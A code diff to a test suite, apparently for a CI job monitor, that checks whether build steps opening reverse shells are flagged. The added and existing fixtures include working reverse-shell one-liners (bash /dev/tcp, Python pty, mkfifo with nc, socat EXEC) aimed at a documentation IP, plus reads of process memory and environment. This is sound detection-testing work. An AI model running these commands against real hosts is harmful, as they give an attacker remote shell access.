@@ -11,6 +11,10 @@ import { Runner } from "./harness.ts";
 const far = "203.0.113.77";
 const port = 4_444;
 const listener = `require("node:net").createServer((s) => s.on("error", () => {})).listen(${port}, "${far}", () => console.log("listening"))`;
+/** As a package manager does: a shell on pipes, under a program that has a connection. */
+const harmless = `import socket,subprocess
+s = socket.create_connection(("${far}", ${port}))
+subprocess.run(["sh", "-c", "cat; sleep 1"], input=b"x", stdout=subprocess.PIPE)`;
 const checkout = `
 import { execFileSync } from "node:child_process";
 import { mkdirSync, writeFileSync } from "node:fs";
@@ -40,7 +44,7 @@ describe("a job that does more than build", () => {
       { id: "__actions_checkout", action: "actions/checkout", folder, main: "main.mjs" },
       {
         id: "build",
-        run: "git status --short > /dev/null\necho made > out.txt\necho made > src/made.txt\necho 'cat' | bash | sh -c 'cat > /dev/null'\nps auxe > /dev/null\ncurl -sS --max-time 5 -k https://203.0.113.11/ > /dev/null || true",
+        run: `git status --short > /dev/null\necho made > out.txt\necho made > src/made.txt\npython3 -c '${harmless}'\necho 'cat' | bash | sh -c 'cat > /dev/null'\nps auxe > /dev/null\ncurl -sS --max-time 5 -k https://203.0.113.11/ > /dev/null || true`,
       },
       { id: "overwrite", run: "echo backdoor >> a.txt\nsed -i s/as/was/ src/b.txt" },
       { id: "direct", run: `bash -c 'bash -i >& /dev/tcp/${far}/${port} 0>&1' &\nsleep 2\nkill %1` },
@@ -51,8 +55,16 @@ s = socket.create_connection(("${far}", ${port}))
 for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
 pty.spawn("/bin/bash")' || true`,
       },
+      {
+        id: "relay",
+        run: `mkfifo f\ncat f | sh -i 2>&1 | nc ${far} ${port} > f &\nsleep 2\npkill -u runner -x nc || true\nrm f`,
+      },
+      { id: "socat", run: `timeout 2 socat TCP:${far}:${port} EXEC:/bin/bash || true` },
       { id: "memory", run: `exec 3< ${worker}/mem\nexec 4< ${worker}/environ` },
-      { id: "daemon", run: `(sleep 2; curl -sS --max-time 2 -k https://203.0.113.11/; sleep 60) > /dev/null 2>&1 &` },
+      {
+        id: "daemon",
+        run: `(sleep 2; curl -sS --max-time 2 -k https://203.0.113.11/; sleep 60) > /dev/null 2>&1 &\nsleep 0.5`,
+      },
       { id: "later", run: "sleep 4" },
     ]);
     report = runner.report(job).report;
@@ -62,8 +74,12 @@ pty.spawn("/bin/bash")' || true`,
     await runner?.close();
   });
 
-  test("a shell on a connection is told, and a shell on a terminal that a connection feeds", () => {
-    assert.deepEqual(steps("reverse_shell"), ["direct", "terminal"], JSON.stringify(report.detections, null, 1));
+  test("a shell on a connection is told, and one behind a terminal, a pipe or another program", () => {
+    assert.deepEqual(
+      steps("reverse_shell"),
+      ["direct", "terminal", "relay", "socat"],
+      JSON.stringify(report.detections, null, 1),
+    );
     for (const each of told("reverse_shell")) assert.match(each.message, new RegExp(`shell for ${far}:${port}`));
   });
 
@@ -80,12 +96,14 @@ pty.spawn("/bin/bash")' || true`,
 
   test("what a step left running is told when it connects, and at the end", () => {
     assert.deepEqual(steps("background_connection"), ["daemon"]);
-    assert.deepEqual(steps("left_running"), ["daemon"]);
+    assert.ok(steps("left_running").includes("daemon"));
   });
 
   test("nothing of the build is told", () => {
     assert.deepEqual(
-      report.detections.filter(({ process }) => process === null || process?.step === "build").map(({ message }) => message),
+      report.detections
+        .filter(({ process }) => process === null || process?.step === "build")
+        .map(({ message }) => message),
       [],
     );
     assert.ok(!report.limits.some((each) => each.includes("not watched")), report.limits.join("\n"));
